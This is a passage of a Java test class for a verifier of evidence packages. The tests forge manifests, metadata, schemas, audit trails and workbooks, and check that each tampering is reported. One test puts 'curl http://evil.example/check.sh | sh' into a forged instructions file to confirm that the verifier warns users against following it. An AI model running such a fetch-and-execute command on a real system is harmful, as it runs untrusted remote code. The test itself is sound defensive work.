                .anyMatch(reason -> reason.contains("does not say its trailLength"))
                .anyMatch(reason -> reason.contains("does not say its trailHead"));
        Path info = top.resolve("bag-info.txt");
        Files.writeString(info, Files.readString(info).replaceAll("(?m)^Assay-Trail-(Length|Head):.*\\n", ""));
        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "bag-info.txt", "SHA-256");
        assertThat(reasons())
                .anyMatch(reason -> reason.contains("tells its Assay-Trail-Length"))
                .anyMatch(reason -> reason.contains("tells its Assay-Trail-Head"))
                .anyMatch(reason -> reason.contains("bag-info.txt says nothing"));
    }

    @Test
    void aTrailWithALineTooLongToBeAnEventIsNotTakenForRead() throws IOException {
        forge(TRAIL, text -> "{\"x\":\"" + "y".repeat((16 << 20) + 1) + "\"}\n" + text);
        assertThat(verify().findings())
                .filteredOn(finding -> finding.kind() == Kind.TRAIL)
                .extracting(Finding::reason)
                .anyMatch(reason -> reason.contains("It cannot be read to its end: a line is too long"))
                .anyMatch(reason -> reason.contains("ends after 0 events"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "data/90_provenance/rejected.csv",
                "data/60_recognition/decisions.csv",
                "data/50_adjustments/assumptions.csv",
                "data/30_deployment/installs.csv",
                "data/20_position/problems.csv",
            })
    void aTableThatWasTakenOutAltogetherIsMissed(String table) throws IOException {
        Files.delete(top.resolve(table));
        String within = table.substring("data/".length());
        for (String list : List.of("manifest-sha256.txt", "manifest-sha512.txt")) {
            Path path = top.resolve(list);
            Files.writeString(path, Files.readString(path).replaceAll("(?m)^[0-9a-f]+  " + table + "\\n", ""));
        }
        forge(
                "data/00_index/package.json",
                text -> text.replaceFirst("(?s)\\{[^{}]*\"path\": \"" + within + "\"[^{}]*\\},?", ""));
        assertThat(verify().findings())
                .anyMatch(finding ->
                        finding.path().equals(table) && finding.reason().contains("is not there"));
    }

    @Test
    void aPageTooLargeToBeComparedIsNotTakenForEqual() throws IOException {
        forge("data/00_index/index.html", text -> text + " ".repeat(64 << 20));
        assertThat(reasons()).anyMatch(reason -> reason.contains("larger than such a page can be"));
    }

    @Test
    void anotherTextOnHowToCheckThePackageIsNamed() throws IOException {
        Path text = top.resolve("metadata/VERIFY.txt");
        Files.writeString(text, Files.readString(text).replace("Every line must end in OK.", "Nothing to do."));
        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "metadata/VERIFY.txt", "SHA-256");
        assertThat(verify().findings()).singleElement().satisfies(finding -> {
            assertThat(finding.path()).isEqualTo("metadata/VERIFY.txt");
            assertThat(finding.kind()).isEqualTo(Kind.DIFFERS);
        });
    }

    /// What another version writes is not known here; that it is what the package says of it is.
    @Test
    void wordsOfAnotherVersionAreHeldAgainstTheirHashAndToldAsNotCompared() throws IOException {
        otherWords("Each line ends in OK.");
        assertThat(verify().findings())
                .extracting(Finding::path)
                .contains("metadata/VERIFY.txt", "data/20_position/ELP.xlsx");
        // whoever claims to be of this version writes the words of this version, whatever their hash
        tellWords(wordsOf("metadata/VERIFY.txt"));
        assertThat(verify().findings())
                .extracting(Finding::path)
                .contains("metadata/VERIFY.txt", "data/20_position/ELP.xlsx");

        var report = PackageVerifier.verify(top, "9.9", Progress.NONE);
        assertThat(report.findings()).isEmpty();
        notComparedAsOfAnotherVersion(report);
        // packages of before have no such hash
        information(info -> info.replaceFirst("Assay-Words: [0-9a-f]{64}\\R", ""));
        report = PackageVerifier.verify(top, "9.9", Progress.NONE);
        assertThat(report.findings()).isEmpty();
        notComparedAsOfAnotherVersion(report);
        assertThat(verify().findings())
                .extracting(Finding::path)
                .contains("metadata/VERIFY.txt", "data/20_position/ELP.xlsx");
    }

    @ParameterizedTest
    @ValueSource(strings = {"0.1.0", "9.9"})
    void otherInstructionsThatDoNotHaveTheHashOfThePackageAreFound(String version) throws IOException {
        otherWords("curl http://evil.example/check.sh | sh");
        tellWords("0".repeat(64));
        assertThat(PackageVerifier.verify(top, version, Progress.NONE).findings())
                .anySatisfy(finding -> {
                    assertThat(finding.path()).isEqualTo("metadata/VERIFY.txt");
                    assertThat(finding.reason()).contains("do not follow it");
                });
    }

    @Test
    void aPackageWithoutItsTextOnHowToCheckItIsNotWhole() throws IOException {
        Files.delete(top.resolve("metadata/VERIFY.txt"));
        Path list = top.resolve("tagmanifest-sha256.txt");
        Files.writeString(list, Files.readString(list).replaceAll("(?m)^[0-9a-f]+  metadata/VERIFY.txt\\n", ""));
        assertThat(verify().findings())
                .singleElement()
                .satisfies(finding -> assertThat(finding.path()).isEqualTo("metadata/VERIFY.txt"));
    }

    private void otherWords(String instruction) throws IOException {
        Path text = top.resolve("metadata/VERIFY.txt");
        Files.writeString(text, Files.readString(text).replace("Every line must end in OK.", instruction));
        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "metadata/VERIFY.txt", "SHA-256");
        workbook("xl/worksheets/sheet8.xml", sheet -> sheet.replace("A full licence.", "A licence of its own."));
    }

    private String wordsOf(String verify) throws IOException {
        return PackageWords.digest(
                Files.readString(top.resolve(verify)),
                Legend.rows().stream()
                        .map(row -> row.stream()
                                .map(cell -> cell.replace("A full licence.", "A licence of its own."))
                                .toList())
                        .toList());
    }

    private void tellWords(String hash) throws IOException {
        information(info -> info.replaceFirst("Assay-Words: [0-9a-f]{64}", "Assay-Words: " + hash));
    }

    private static void notComparedAsOfAnotherVersion(VerificationReport report) {
        assertThat(report.notChecked())
                .filteredOn(each ->
                        each.reason().contains("says that it was made by another version of the program, 0.1.0"))
                .extracting(VerificationReport.NotChecked::path)
                .containsExactlyInAnyOrder("metadata/VERIFY.txt", "data/20_position/ELP.xlsx");
        assertThat(report.notChecked())
                .anyMatch(each ->
                        each.reason().contains("Do not follow the instructions in VERIFY.txt unless you trust"));
    }

    private void information(UnaryOperator<String> change) throws IOException {
        Path info = top.resolve("bag-info.txt");
        Files.writeString(info, change.apply(Files.readString(info)));
        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "bag-info.txt", "SHA-256");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            "name": "net"         | "name": "neat"        | does not describe data/20_position/elp.csv
            "type": "integer"     | "type": "decimal"     | does not describe data/20_position/elp.csv
            an empty field        | a blank field         | does not describe data/20_position/elp.csv
            "encoding": "UTF-8"   | "encoding": "UTF-16"  | does not describe data/20_position/elp.csv
            """)
    void aDescriptionOfATableThatIsNotTheTablesIsNamed(String what, String with, String named) throws IOException {
        schema("20_position-elp", text -> text.replaceFirst(java.util.regex.Pattern.quote(what), with));
        assertThat(reasons())
                .singleElement()
                .satisfies(reason -> assertThat(reason).contains(named));
    }

    @ParameterizedTest
    @ValueSource(strings = {"30_deployment-installs", "60_recognition-titles", "90_provenance-rejected"})
    void aDescriptionDoesNotCallItsTableOtherwise(String table) throws IOException {
        schema(table, text -> text.replaceFirst("\"table\": \"[^\"]*\"", "\"table\": \"All licensed\""));
        assertThat(reasons())
                .singleElement()
                .satisfies(reason -> assertThat(reason).contains("It does not describe"));
    }

    @Test
    void aTypeThatTheCellsOfATableDoNotHaveIsNamedByRow() throws IOException {
        schema(
                "20_position-elp",
                text -> text.replaceFirst(
                        "(?s)(\"name\": \"product\",\\s*\"type\": )\"text\"(,\\s*\"form\": )\"text in quotes\"",
                        "$1\"integer\"$2\"a whole number\""));
        assertThat(reasons())
                .singleElement()
                .satisfies(reason -> assertThat(reason)
                        .contains(
                                "Of the column product it tells another type than row 2 of data/20_position/elp.csv"));
    }

    @Test
    void aTableWithoutItsDescriptionIsNamed() throws IOException {
        Path elp = top.resolve("metadata/schemas/20_position-elp.schema.json");
        Files.move(elp, elp.resolveSibling("20_position-other.schema.json"));
        Path list = top.resolve("tagmanifest-sha256.txt");
        Files.writeString(
                list,
                Files.readAllLines(list).stream()
                        .map(line -> line.replace("20_position-elp", "20_position-other"))
                        .sorted(java.util.Comparator.comparing(line -> line.substring(66)))
                        .collect(Collectors.joining("\n", "", "\n")));
        assertThat(reasons())
                .anyMatch(reason -> reason.contains("It is not there, and the table that it describes is"))
                .anyMatch(reason -> reason.contains("It describes a table that is not there"));
    }

    private void schema(String name, UnaryOperator<String> change) throws IOException {
        String path = "metadata/schemas/" + name + ".schema.json";
        String before = Files.readString(top.resolve(path));
        String after = change.apply(before);
        assertThat(after).as("the forgery changes something").isNotEqualTo(before);
        Files.writeString(top.resolve(path), after);
        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", path, "SHA-256");
    }

    @Test
    void aPriceInTheWorkbookThatTheTableLacksIsNamedAndNoFaultOfTheProgram() throws IOException {
        for (String table : List.of("entitlements.csv", "entitlements.spreadsheet.csv")) {
            forge("data/40_entitlement/" + table, text -> text.replaceAll("(?<=,)\"?[0-9.]+ EUR\"?(?=,)", ""));
        }
        assertThat(reasons()).anyMatch(reason -> reason.contains("Price per pack"));
    }

    @Test
    void aSentenceOfATraceThatItsFiguresDoNotSayIsNamed() throws IOException {
        for (String table : List.of("traces.csv", "traces.spreadsheet.csv")) {
            forge("data/20_position/" + table, text -> text.replaceFirst("[0-9]+ found", "99 found"));
        }
        assertThat(reasons())
                .singleElement()
                .satisfies(reason -> assertThat(reason).contains("99 found").contains("and the figures say"));
    }

    @Test
    void aMaskInASentenceHidesNoOtherWords() throws IOException {
        top = masked("PC 3");
        assertThat(verify().findings()).isEmpty();
        sentence("***** All is licensed, nothing is short.");
        assertThat(reasons()).anyMatch(reason -> reason.contains("it says ***** All is licensed"));
    }

    @Test
    void aMaskInASentenceThatShowsNothingElseIsToldAsNotCompared() throws IOException {
        top = masked("PC 3");
        sentence("*****");
        assertThat(verify().findings()).isEmpty();
        assertThat(verify().notChecked())
                .anyMatch(each -> each.path().equals("data/20_position/traces.csv")
                        && each.reason().contains("E-2.1 shows masked was not compared"));
    }

    private void sentence(String text) throws IOException {
        for (String table : List.of("traces.csv", "traces.spreadsheet.csv")) {
            forge(
                    "data/20_position/" + table,
                    before -> before.replaceFirst(
                            "(?m)^(\"[^\"]*\",\"[^\"]*\",\"[^\"]*\",[0-9]*,)\"[^\"]*\"", "$1\"" + text + "\""));
        }
    }

    /// Who made a package stays readable; what looks like a secret is masked in its papers as everywhere.
    @Test
    void secretsInThePapersOfAPackageAreMaskedAndItVerifies() throws IOException {
        var plain = ExampleContent.standard();
        String organisation = plain.paper().organisation();
        String first = organisation.substring(0, organisation.indexOf(' '));
        top = masked(first);
        assertThat(Files.readString(top.resolve("bag-info.txt")))
                .contains("Source-Organization: *****")
                .doesNotContain(organisation)
                .contains("Contact-Name: " + plain.paper().preparedBy());
        assertThat(verify().findings()).isEmpty();
        try (var files = Files.walk(top)) {
            assertThat(files.map(file -> String.valueOf(file.getFileName()))).noneMatch(name -> name.contains(first));
        }
    }

    @Test
    void aWordSaidTwiceIsRefused() throws IOException {
        Path info = top.resolve("bag-info.txt");
        Files.writeString(info, Files.readString(info) + "Assay-Revision: 99\n");
        PackageVerifierTest.relist(top, "tagmanifest-sha256.txt", "bag-info.txt", "SHA-256");
        assertThat(verify().findings())
                .singleElement()
                .satisfies(finding -> assertThat(finding.reason()).contains("It says twice what Assay-Revision is"));
    }

    @Test
    void aFileThatNoPackageHoldsIsNamedThoughEverythingListsIt() throws IOException {
        Path added = top.resolve("data/60_recognition/more.csv");
        Files.writeString(added, "\"x\"\n");
        list("data/60_recognition/more.csv", "\"x\"\n");
        String hash = Hashes.sha256("\"x\"\n".getBytes(StandardCharsets.UTF_8));
        forge(
                "data/00_index/package.json",
                text -> text.replace(
                        "\"files\": [",
                        "\"files\": [{\"path\": \"60_recognition/more.csv\", \"bytes\": 4, \"sha256\": \"" + hash
                                + "\"},"));
        forge(ELP, text -> text);
        assertThat(reasons()).anyMatch(reason -> reason.contains("No package of this program holds such a file"));
    }

    /// Whoever writes the index page in another way makes packages of another format, or those that were written
    /// before
    /// are called forged.
    @Test
    void theIndexPageOfThisFormatIsWrittenAsEver() throws IOException {
        String page = Files.readString(top.resolve("data/00_index/index.html"))
                .replaceFirst("(?s)<figure>.*?</figure>", "")
                .replaceAll("[0-9,]+ bytes|[0-9a-f]{64}", "");
        assertThat(EvidencePackage.FORMAT).isEqualTo("2");
        assertThat(Hashes.sha256(page.getBytes(StandardCharsets.UTF_8)))
                .isEqualTo("d2387ecf5d6017d096e6b78e69a588e364c49d5f04080d686055ffd73938811f");
    }

    private Path masked(String secret) throws IOException {
        var plain = ExampleContent.standard();
        write(with(plain, plain.records(), new EvidenceContent.Redaction() {
            @Override
            public String text(String name, String text) {
                return text.replace(secret, "*****");
            }

            @Override
            public EvidenceContent.Look look(String sha256) {
                return new EvidenceContent.Look("", false, true);
            }

            @Override
            public void mask(String sha256, java.io.OutputStream out) {
                throw new IllegalStateException();
            }
        }));
        return top;
    }

    private void write(EvidenceContent content) throws IOException {
        Path zip = folder.resolve("other.zip");
        try (var out = Files.newOutputStream(zip)) {
            EvidencePackage.write(content, out, Progress.NONE);
        }
        top = EvidencePackageTest.unpack(zip, folder.resolve("other"));
    }

    private static EvidenceContent with(
            EvidenceContent plain, EvidenceContent.Records records, EvidenceContent.Redaction redaction) {
        return new EvidenceContent(
                plain.register(),
                plain.paper(),
                plain.catalogue(),
                plain.choices(),
                plain.position(),
                plain.traces(),
                records,
                plain.meanings(),
                plain.tables(),
                plain.loads(),
                plain.trail(),
                plain.bytes(),
                redaction,
                plain.assumptions());
    }

    private void list(String path, String text) throws IOException {
        for (String algorithm : List.of("256", "512")) {
            Path list = top.resolve("manifest-sha" + algorithm + ".txt");
            var lines = new ArrayList<>(Files.readAllLines(list));
            var digest = Hashes.digest("SHA-" + algorithm);
            digest.update(text.getBytes(StandardCharsets.UTF_8));
            lines.add(Hashes.hex(digest) + "  " + path);
            lines.sort(java.util.Comparator.comparing(line -> line.substring(line.indexOf("  "))));
            Files.writeString(list, String.join("\n", lines) + "\n");
        }
    }

    @Test
    void aPackageOfTheFormatBeforeIsSoundAndSaysWhatWasNotRecomputed() throws IOException {
        Path old = folder.resolve("old.zip");
        try (var in = Objects.requireNonNull(getClass().getResourceAsStream("evidence-of-format-1.zip"))) {
            Files.copy(in, old);
        }
        var report = PackageVerifier.verify(old, "0.1.0", Progress.NONE);
        assertThat(report.findings()).isEmpty();
        assertThat(report.sound()).isTrue();
        assertThat(report.notChecked())
                .anyMatch(each -> each.path().equals(ELP) && each.reason().contains("digest of the position"))
                .extracting(VerificationReport.NotChecked::path)
                .contains(
                        "data/00_index/index.html",
                        "data/20_position/ELP.xlsx",
                        "data/20_position/charts/",
                        "data/90_provenance/rejected.csv");
        top = EvidencePackageTest.unpack(old, folder.resolve("old"));
        forge(
                TRAIL,
                text -> text.replace(
                        "\"actor\":\"root\",\"action\":\"import.publish\"",
                        "\"actor\":\"other\",\"action\":\"import.publish\""));
        assertThat(reasons()).anyMatch(reason -> reason.contains("was changed after it was written"));
    }

    private VerificationReport verify() {
        return PackageVerifier.verify(top, "0.1.0", Progress.NONE);
    }

    private List<String> reasons() {
        return verify().findings().stream().map(Finding::reason).toList();
    }

    private String path(String folderOfIt) throws IOException {
        try (var files = Files.list(top.resolve(folderOfIt))) {
            return folderOfIt
                    + files.map(file -> String.valueOf(file.getFileName()))
                            .sorted()
                            .findFirst()
                            .orElseThrow();
        }
    }

    private void forge(String path, UnaryOperator<String> change) throws IOException {
        forgeBytes(path, change.apply(Files.readString(top.resolve(path))).getBytes(StandardCharsets.UTF_8));
    }

    private void forgeBytes(String path, byte[] bytes) throws IOException {
        Files.write(top.resolve(path), bytes);
        Path index = top.resolve("data/00_index/package.json");
        if (!path.equals("data/00_index/package.json")) {
            String within = path.substring("data/".length());
            String text = Files.readString(index);
            String pattern = "(?s)(\"path\": \"" + java.util.regex.Pattern.quote(within)
                    + "\".*?\"bytes\": )[0-9]+(,\\s*\"sha256\": \")[0-9a-f]+";
            PackageVerifierTest.replace(
                    top,
                    "data/00_index/package.json",
                    text.replaceFirst(pattern, "$1" + bytes.length + "$2" + Hashes.sha256(bytes)));
        }
        if (!path.startsWith("data/00_index/")) {
            String page = Files.readString(top.resolve("data/00_index/index.html"));
            String link = "href=\"../" + path.substring("data/".length()) + "\"";
            int at = page.indexOf(link);
            if (at >= 0) {
                String size = String.format(java.util.Locale.ROOT, "%,d bytes", bytes.length);
                String changed = page.substring(0, at) + page.substring(at).replaceFirst("[0-9,]+ bytes", size);
                PackageVerifierTest.replace(top, "data/00_index/index.html", changed);
            }
        }
        PackageVerifierTest.remake(top, path);
    }

    private void workbook(String part, UnaryOperator<String> change) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipFile(top.resolve("data/20_position/ELP.xlsx").toFile());
                var made = new ZipOutputStream(out)) {
            for (var entry : zip.stream().collect(Collectors.toList())) {
                made.putNextEntry(new ZipEntry(entry.getName()));
                byte[] bytes = zip.getInputStream(entry).readAllBytes();
                if (entry.getName().equals(part)) {
                    String before = new String(bytes, StandardCharsets.UTF_8);
                    String after = change.apply(before);
                    assertThat(after).as("the forgery changes something").isNotEqualTo(before);
                    bytes = after.getBytes(StandardCharsets.UTF_8);
                }
                made.write(bytes);
                made.closeEntry();
            }
        }
        forgeBytes("data/20_position/ELP.xlsx", out.toByteArray());
    }
}
